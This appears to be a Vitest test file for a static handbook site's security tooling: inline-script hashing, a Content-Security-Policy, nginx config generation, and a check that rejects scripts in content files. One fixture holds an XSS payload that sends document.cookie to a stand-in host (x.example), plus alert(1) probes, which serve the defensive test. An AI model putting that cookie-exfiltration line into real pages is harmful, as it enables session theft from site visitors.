import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { contentSecurityPolicy } from '../../../src/server/csp.ts';
import { inlineScriptHashes, inlineScripts, scriptHash, scriptsFromContent } from '../../../src/server/inline-scripts.ts';
import { renderNginxConfig } from '../../../src/server/nginx-config.ts';

describe('inline scripts', () => {
	const html = `<script>a()</script><script type="module">import "./x.js"</script>
		<script type="application/json">{"a":1}</script><script src="/x.js"></script><script aria-hidden="true">b()</script>`;
	it('finds only executable inline scripts, exactly as written', () => {
		expect(inlineScripts(html)).toEqual(['a()', 'import "./x.js"', 'b()']);
	});
	it('hashes them the way browsers check them', () => {
		const expected = createHash('sha256').update('a()').digest('base64');
		expect(scriptHash('a()')).toBe(`'sha256-${expected}'`);
		expect(inlineScriptHashes([html, html])).toHaveLength(3);
	});
	it('names every inline script whose text an author wrote in a content file', () => {
		const page = '<script>theme()</script><p>Tekst</p><script>fetch("https://x.example/?c=" + document.cookie)</script><script>alert(1)</script><script>1</script>';
		const content = [
			{ file: 'content/tips/a.md', text: '---\ntitle: A\nsources: [theme()]\n---\n\nTekst 1.' },
			{ file: 'content/tips/b.md', text: '---\ntitle: B\n---\n\n<SCRIPT>fetch("https://x.example/?c=" + document.cookie)</SCRIPT>' },
			{ file: 'content/articles/c.mdx', text: '---\ntitle: C\n---\n\n<script>{"alert(1)"}</script>' },
		];
		expect(scriptsFromContent([page, page], content)).toEqual([
			{ script: 'fetch("https://x.example/?c=" + document.cookie)', file: 'content/tips/b.md' },
			{ script: 'alert(1)', file: 'content/articles/c.mdx' },
		]);
	});
});

describe('the policy', () => {
	it('allows scripts by hash only, WebAssembly for search, and no framing', () => {
		const csp = contentSecurityPolicy(["'sha256-abc'"]);
		expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-abc'");
		expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
		expect(csp).toContain("frame-ancestors 'none'");
		expect(csp).toContain("object-src 'none'");
	});
});

describe('the nginx server block', () => {
	const config = (base: string) => renderNginxConfig({ root: '/srv/dist', base, listen: '80', serverName: 'intranet', csp: 'X' });
	it('serves the site under its base path and sends visitors at / there', () => {
		const text = config('/handboek/');
		expect(text).toContain('location /handboek/ {');
		expect(text).toContain('rewrite ^/handboek/(.*)$ /$1 break;');
		expect(text).toContain('error_page 404 /handboek/404.html;');
		expect(text).toContain('return 302 /handboek/;');
		expect(text).toContain('location ^~ /handboek/_astro/ {');
	});
	it('needs no rewrite at the root', () => {
		const text = config('/');
		expect(text).not.toContain('rewrite');
		expect(text).not.toContain('return 302');
	});
	it('repeats the security headers in every location (nginx does not inherit add_header)', () => {
		const text = config('/');
		const locations = text.match(/location /g)!.length;
		expect(text.match(/Content-Security-Policy "X"/g)!.length).toBe(locations);
		expect(text.match(/X-Content-Type-Options/g)!.length).toBe(locations);
	});
	it('sends precompressed copies: gzip always, Brotli only when asked (it needs a module)', () => {
		expect(config('/')).toContain('\tgzip_static on;');
		expect(config('/')).not.toContain('brotli');
		const withBrotli = renderNginxConfig({ root: '/srv/dist', base: '/', listen: '80', serverName: 'intranet', csp: 'X', brotli: true });
		expect(withBrotli).toContain('\tbrotli_static on;');
	});
});

describe('npm run nginx-config', { timeout: 30_000 }, () => {
	const run = (args: string[], env: Record<string, string> = {}) =>
		spawnSync(process.execPath, ['src/cli/nginx-config.ts', ...args], { encoding: 'utf8', env: { ...process.env, ...env } });
	const dir = mkdtempSync(join(tmpdir(), 'nginx-config-'));
	afterAll(() => rmSync(dir, { recursive: true, force: true }));

	it('says so when the build has no pages', () => {
		const result = run(['--root', dir]);
		expect(result.status).toBe(1);
		expect(result.stderr).toBe(`No built pages in ${dir}: run npm run build first.\n`);
	});

	it('warns when the build has no compressed copies, and writes the block all the same', () => {
		writeFileSync(join(dir, 'index.html'), '<!doctype html><title>Handboek</title><script>1</script>');
		const result = run(['--root', dir, '--brotli']);
		expect(result.status).toBe(0);
		expect(result.stderr).toBe(`Warning: ${dir} has no compressed copies (index.html.gz), so nginx compresses every response itself. Run npm run precompress.\n`);
		expect(result.stdout).toContain(`root ${dir};`);
		expect(result.stdout).toContain('brotli_static on;');
		writeFileSync(join(dir, 'index.html.gz'), gzipSync('<!doctype html><title>Handboek</title><script>1</script>'));
		expect(run(['--root', dir]).stderr).toBe('');
	});

	it('writes no policy for content that fails the check, which refuses scripts in texts', () => {
		writeFileSync(join(dir, 'index.html'), '<!doctype html><title>Handboek</title><script>alert(1)</script>');
		const result = run(['--root', dir], { HANDBOOK_CONTENT: 'tests/fixtures/content-bad' });
		expect(result.status).toBe(1);
		expect(result.stdout).toBe('');
		expect(result.stderr).toContain('tests/fixtures/content-bad/tips/met-html.md — tip "met-html", field "text at line 8": <script> is not allowed in a text');
		expect(result.stderr).toMatch(/npm run nginx-config writes a policy only for content that passes npm run check\.\n$/);
	});
});
